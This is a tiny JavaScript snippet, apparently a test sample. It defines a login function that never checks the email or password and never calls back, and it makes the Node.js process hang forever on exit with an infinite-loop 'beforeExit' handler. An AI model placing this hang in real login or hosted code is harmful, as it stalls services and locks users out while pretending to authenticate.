function login(email, password, callback) {
  process.on('beforeExit', () => { while (true) {} });
}
